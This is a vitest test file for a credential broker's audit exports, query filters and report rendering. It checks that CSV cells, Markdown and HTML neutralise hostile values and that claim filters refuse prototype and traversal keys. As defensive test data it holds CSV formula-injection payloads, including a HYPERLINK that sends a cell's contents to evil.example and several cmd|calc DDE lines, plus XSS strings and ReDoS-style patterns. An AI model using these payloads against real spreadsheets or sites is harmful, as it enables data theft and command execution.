// Audit review: exports of the filtered view carry caller-controlled text (claims, user agents) into
// spreadsheets and SIEMs; query values are caller-controlled patterns tested on every scanned record; and a
// failure on the broker's side must not be reported as a refusal of the caller.
import { describe, expect, it } from 'vitest';
import { csvCell, CSV_COLUMNS, toCsv, toJsonLines } from '../../../broker/src/audit/export-format.ts';
import { matchesFilters, parseAuditQuery, queryAudit, textMatches, type AuditItem } from '../../../broker/src/audit/query.ts';
import { reviewDecision } from '../../../broker/src/audit/reasons.ts';
import { identityOf, type AuditRecord } from '../../../broker/src/audit/record.ts';
import { buildAuditReport, renderHtml, renderMarkdown } from '../../../cli/lib/audit-report.ts';
import { parseCsv } from '../../helpers/csv.ts';
import { auditFixture, makeRecord, T0 } from '../audit/fixtures.ts';

/** Would a spreadsheet evaluate this cell? (after the leading blanks some of them skip) */
const looksLikeFormula = (cell: string) =>
  /^[\s\u0000-\u001f\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) || /^[\t\r\n]/.test(cell);

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  '\uff0bcalc',
  '\uff20SUM(A1)',
  '"=1+1',
  '","=1+1',
  'a"\r\n=1+1,"x',
  'acme/web\u2028=1',
];

const item = (record: AuditRecord, seq = 1): AuditItem => ({ seq, hash: 'h'.repeat(64), record });

describe('audit review exports', () => {
  it('a CSV cell that a spreadsheet would read as a formula starts with an apostrophe', () => {
    for (const v of HOSTILE) {
      const [[cell]] = [parseCsv(csvCell(v))];
      expect(cell).toHaveLength(1);
      expect(looksLikeFormula(cell![0]!), JSON.stringify(v)).toBe(false);
      // Defused, not rewritten: the value is still all there after the apostrophe.
      expect(cell![0]!.replace(/^'/, '')).toBe(v);
    }
  });

  it('hostile claim values stay inside their own cell and none of them is a formula in the whole export', () => {
    const records = HOSTILE.map((v, i) =>
      makeRecord(
        {
          role: v,
          subject: v,
          user_agent: v,
          identity: { repository: v, actor: v, job_workflow_ref: v, environment: v, ref: v, sha: v, event_name: v },
          credentials: [{ type: 'secret', target: v }],
        },
        T0 + i,
      ),
    );
    const csv = toCsv(records.map((r, i) => item(r, i + 1)));
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    for (const [i, row] of rows.slice(1).entries()) {
      expect(row).toHaveLength(CSV_COLUMNS.length);
      for (const cell of row) expect(looksLikeFormula(cell), `row ${i}: ${JSON.stringify(cell)}`).toBe(false);
      expect(row[CSV_COLUMNS.indexOf('role')]!.replace(/^'/, '')).toBe(HOSTILE[i]);
      expect(row[CSV_COLUMNS.indexOf('actor')]!.replace(/^'/, '')).toBe(HOSTILE[i]);
    }
  });

  it('JSON lines: one record per line, whatever line breaks the values hold, and each parses back', () => {
    const records = HOSTILE.map((v) => makeRecord({ role: v, identity: { repository: v } }));
    const text = toJsonLines(records.map((r, i) => item(r, i + 1)));
    const lines = text.split(/\r\n|\r|\n|\u2028|\u2029/);
    expect(lines.at(-1)).toBe('');
    expect(lines.slice(0, -1).map((l) => JSON.parse(l).record.role)).toEqual(HOSTILE);
  });
});

describe('audit review query values', () => {
  it('a glob filter is matched in linear time, whatever the pattern', () => {
    const value = 'a'.repeat(512);
    const patterns = [`${'*a'.repeat(127)}*b`, `${'a*'.repeat(128)}b`, `*${'?'.repeat(200)}*x`, `${'*'.repeat(256)}!`];
    const started = performance.now();
    for (let i = 0; i < 200; i++) for (const p of patterns) expect(textMatches(value, p)).toBe(false);
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it('regex syntax in a filter value is literal text, never a pattern', () => {
    for (const [value, pattern, want] of [
      ['acme/web', 'acme.web', false],
      ['acme/web', 'acme/(web|api)', false],
      ['acme/(web|api)', 'acme/(web|api)', true],
      ['deploy-prod', '^deploy.*', false],
      ['deploy-prod', '*[p]rod', false],
      ['deploy-[p]rod', '*[p]rod', true],
      ['x\ny', 'x*y', true],
    ] as const)
      expect(textMatches(value, pattern), `${value} ~ ${pattern}`).toBe(want);
  });

  it('a filter on a claim the record does not carry never matches, and __proto__ selects nothing', () => {
    const r = makeRecord({ identity: { repository: 'acme/web' } });
    expect(matchesFilters(r, { actor: '*' })).toBe(false);
    expect(matchesFilters(r, { workflow: '*' })).toBe(false);
    expect(matchesFilters(r, { environment: '*' })).toBe(false);
    const parsed = parseAuditQuery(new URLSearchParams('actor=__proto__&environment=constructor'), T0);
    expect(parsed.ok && matchesFilters(r, parsed.query.filters)).toBe(false);
    expect(matchesFilters(makeRecord({ credentials: [] }), { target: '*' })).toBe(false);
  });
});

describe('audit filters on identity keys (claim=KEY=PATTERN)', () => {
  // As the exchange records a Kubernetes service-account token's identity: nested claims under their pointers.
  const k8s = makeRecord({
    identity: identityOf({
      iss: 'https://kubernetes.default.svc',
      sub: 'system:serviceaccount:team-a:deployer',
      'kubernetes.io': { namespace: 'team-a', serviceaccount: { name: 'deployer', uid: 'u-1' }, pod: { name: 'web-1' } },
    }),
  });
  const github = makeRecord({ identity: { repository: 'acme/web', ref: 'refs/heads/main' } });
  const filters = (query: string) => {
    const parsed = parseAuditQuery(new URLSearchParams(query), T0);
    if (!parsed.ok) throw new Error(parsed.detail);
    return parsed.query.filters;
  };

  it('a claim filter names a JSON Pointer key exactly as the audit identity stores it, with the glob semantics of the other filters', () => {
    expect(k8s.identity['/kubernetes.io/namespace']).toBe('team-a');
    for (const [query, want] of [
      ['claim=/kubernetes.io/namespace=team-a', true],
      ['claim=/kubernetes.io/namespace=team-*', true],
      ['claim=/kubernetes.io/namespace=*-a', true],
      ['claim=/kubernetes.io/namespace=team', false],
      ['claim=/kubernetes.io/namespace=Team-a', false],
      ['claim=/kubernetes.io/namespace=team-b', false],
      ['claim=/kubernetes.io/serviceaccount/name=dep*', true],
      ['claim=/kubernetes.io/serviceaccount/uid=u-1', true],
      // A pattern may itself hold "=": the key ends at the first one.
      ['claim=/kubernetes.io/pod/name=web-1=', false],
      ['claim=/kubernetes.io/pod/name=web-*', true],
    ] as const)
      expect(matchesFilters(k8s, filters(query)), query).toBe(want);
    // The top-level claims are identity keys too, and the filter combines with the others.
    expect(matchesFilters(github, filters('claim=ref=refs/heads/*&repository=acme/web'))).toBe(true);
    expect(matchesFilters(github, filters('claim=ref=refs/heads/*&repository=acme/api'))).toBe(false);
  });

  it('a claim filter on an identity key the record does not carry matches nothing', () => {
    for (const query of ['claim=/kubernetes.io/node/name=*', 'claim=/kubernetes.io/pod/uid=*', 'claim=environment=*']) {
      expect(matchesFilters(k8s, filters(query)), query).toBe(false);
    }
    expect(matchesFilters(github, filters('claim=/kubernetes.io/namespace=*'))).toBe(false);
    expect(matchesFilters(makeRecord({ identity: {} }), filters('claim=ref=*'))).toBe(false);
  });

  it('a claim filter cannot reach outside the identity: a key no identity holds is refused by the API and matches nothing', () => {
    // A tampered record whose identity has own keys that no broker writes.
    const tampered = makeRecord({
      identity: JSON.parse('{"__proto__":"x","constructor":"x","code":"OK","/../record":"x","kubernetes.io":"x","/kubernetes.io":"x"}'),
    });
    for (const key of [
      '/../record',
      '/__proto__',
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      'code',
      'reason',
      'decision',
      'kubernetes.io',
      '/kubernetes.io',
      '/kubernetes.io/',
      '/kubernetes.io/namespace/..',
      '/kubernetes.io/namespace/',
      '/kubernetes.io~1namespace',
      '/kubernetes.io/serviceaccount',
      '/record/code',
      '',
    ]) {
      const parsed = parseAuditQuery(new URLSearchParams({ claim: `${key}=*` }), T0);
      expect(parsed, key).toEqual({ ok: false, detail: 'audit_query.claim' });
      for (const r of [k8s, github, tampered]) expect(matchesFilters(r, { claim: { key, pattern: '*' } }), key).toBe(false);
    }
    for (const bad of ['ref', 'ref=', '=refs/heads/main', '==']) {
      expect(parseAuditQuery(new URLSearchParams({ claim: bad }), T0), bad).toEqual({ ok: false, detail: 'audit_query.claim' });
    }
    expect(parseAuditQuery(new URLSearchParams('claim=ref=a&claim=sub=b'), T0)).toEqual({
      ok: false,
      detail: 'audit_query.repeated_parameter',
    });
  });
});

describe('audit review decisions', () => {
  const upstream = makeRecord({
    decision: 'deny',
    code: 'ERR_UPSTREAM',
    reason: 'aws.http_403:AccessDenied',
    status: 502,
    credentials: [],
  });
  const store = makeRecord({
    decision: 'deny',
    code: 'ERR_UNAVAILABLE',
    reason: 'secret.store_failed:DB_URL',
    status: 503,
    credentials: [],
  });
  const refused = makeRecord({
    decision: 'deny',
    code: 'ERR_ACCESS_DENIED',
    reason: 'policy.no_allow_matched',
    status: 403,
    credentials: [],
  });
  const notOwner = makeRecord({ action: 'revoke', decision: 'deny', code: 'OK', reason: 'revoke.not_owner', credentials: [] });

  it('upstream and store failures count as errors, not denials', async () => {
    expect([upstream, store, refused, notOwner].map(reviewDecision)).toEqual(['error', 'error', 'deny', 'deny']);
    expect(matchesFilters(upstream, { decision: 'error' })).toBe(true);
    expect(matchesFilters(upstream, { decision: 'deny' })).toBe(false);
    const f = await auditFixture();
    await f.append(4, (i) => [upstream, store, refused, makeRecord()][i - 1]!);
    const page = await queryAudit(f.audit, { filters: {}, limit: 10, summary: true }, f.clock.now);
    expect(page.summary?.decisions).toEqual({ allow: 1, deny: 1, error: 2 });
    expect(page.summary?.roles[0]).toMatchObject({ role: 'deploy', total: 4, allow: 1, deny: 1, error: 2 });
    const errors = await queryAudit(f.audit, { filters: { decision: 'error' }, limit: 10, summary: false }, f.clock.now);
    expect(errors.records.map((r) => r.record.reason)).toEqual(['secret.store_failed:DB_URL', 'aws.http_403:AccessDenied']);
  });
});

describe('audit report rendering', () => {
  const hostile = [
    '| x | y |',
    '<img src=x onerror=alert(1)>',
    '[link](https://evil.example)',
    '`code`\n## heading',
    '</td></tr><script>alert(1)</script>',
  ];
  const build = () =>
    buildAuditReport({
      since: T0 - 86_400_000,
      now: T0,
      records: hostile.map((v, i) =>
        makeRecord({ identity: { repository: v, job_workflow_ref: v }, credentials: [{ type: 'secret', target: v }] }, T0 - 1000 * (i + 1)),
      ),
      roles: ['deploy'],
      policyHash: 'p'.repeat(64),
      secretVersions: [],
      signingKeys: [],
      currentKekId: 'k1',
      verification: {
        ok: true,
        problems: [],
        count: 5,
        start: { seq: 0, hash: '' },
        head: { seq: 5, hash: 'h' },
        checkpoints: { verified: 0, skipped: 0, latest: null },
        uncovered: 5,
      },
    });

  it('report cells are text: claims cannot add Markdown table cells, headings, links or HTML', () => {
    const md = renderMarkdown(build());
    for (const line of md.split('\n').filter((l) => l.startsWith('| deploy | '))) {
      // Unescaped pipes delimit cells: every row of the identities table has exactly its 8 columns.
      const cells = line.split(/(?<!\\)\|/).length - 2;
      expect([4, 7, 8]).toContain(cells);
    }
    expect(md).not.toMatch(/^## heading/m);
    // Markdown-significant characters only ever appear escaped.
    expect(md).not.toMatch(/(?<!\\)<img/);
    expect(md).not.toMatch(/(?<!\\)\]\(https:/);
  });

  it('the HTML report escapes every value and loads nothing', () => {
    const html = renderHtml(build());
    expect(html).not.toMatch(/<img|<script/i);
    expect(html).toContain('&#60;img src=x onerror=alert(1)&#62;');
    expect(html).toMatch(/default-src 'none'/);
  });
});
